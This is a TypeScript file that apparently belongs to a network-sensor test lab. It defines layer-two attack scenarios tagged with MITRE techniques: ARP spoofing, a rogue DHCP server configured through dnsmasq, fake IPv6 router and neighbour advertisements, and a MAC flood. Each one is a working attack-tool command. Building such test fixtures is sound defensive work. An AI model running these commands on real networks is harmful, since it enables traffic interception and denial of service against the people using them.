// Attacks between neighbours: ARP, DHCP, router and neighbour advertisements, invented MACs.

import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'

import { lan } from '../addressing.ts'
import { deviceNamed, gateway } from '../devices.ts'
import type { Attack } from '../label.ts'
import type { Network } from '../network.ts'
import { rejoin } from '../services.ts'

const mallory = deviceNamed('mallory')

export const layerTwo: Attack[] = [
  {
    id: 'arp-spoof',
    class: 'adversary-in-the-middle',
    technique: 'T1557.002',
    what: 'tells the sensor to be the gateway and the gateway to be the sensor; relays',
    source: 'mallory',
    destination: 'sensor',
    command: ['arpspoof', '-i', 'eth0', '-t', deviceNamed('sensor').ipv4, '-r', gateway.ipv4],
    timeLimitSeconds: 20,
  },
  {
    id: 'rogue-dhcp',
    class: 'adversary-in-the-middle',
    technique: 'T1557.003',
    what: 'a second, faster DHCP server that names itself router and resolver; the phone takes it',
    source: 'mallory',
    destination: 'phone',
    command: rogueDhcp,
  },
  {
    id: 'rogue-router',
    class: 'adversary-in-the-middle',
    technique: 'T1557',
    what: 'router advertisements of another prefix',
    source: 'mallory',
    destination: 'ff02::1',
    command: ['atk6-fake_router26', '-A', 'fd66:6666::/64', 'eth0'],
    timeLimitSeconds: 8,
  },
  {
    id: 'neighbour-spoof',
    class: 'adversary-in-the-middle',
    technique: 'T1557',
    what: "neighbour advertisements for the gateway's address with the attacker's MAC",
    source: 'mallory',
    destination: 'ff02::1',
    command: [
      ...['atk6-fake_advertise6', '-n', '5', '-w', '2', 'eth0'],
      ...[lan.ipv6[0].replace('::/64', '::1'), 'ff02::1', mallory.mac],
    ],
    timeLimitSeconds: 12,
  },
  {
    id: 'mac-flood',
    class: 'denial-of-service',
    technique: 'T1498',
    what: '300 frames from invented MACs',
    source: 'mallory',
    destination: 'the bridge',
    command: ['macof', '-i', 'eth0', '-n', '300'],
    hidesMac: true,
    timeLimitSeconds: 10,
  },
]

async function rogueDhcp(network: Network): Promise<number> {
  const leases = join(network.directory, 'mallory', 'rogue.leases')
  const rogue = network.start('mallory', [
    ...['dnsmasq', '-k', '-C', '/dev/null', '-u', 'root', '--no-resolv', '--no-hosts'],
    ...['--pid-file=', '-i', 'eth0', '--no-ping', '--dhcp-authoritative'],
    `--server=${gateway.ipv4}`,
    `--dhcp-range=${lan.prefix}200,${lan.prefix}220,5m`,
    `--dhcp-option=3,${mallory.ipv4}`,
    `--dhcp-option=6,${mallory.ipv4}`,
    `--dhcp-leasefile=${leases}`,
  ])
  await sleep(1500)
  await rejoin(network, 'phone')
  await sleep(20_000)
  await network.stop(rogue)
  return 0
}
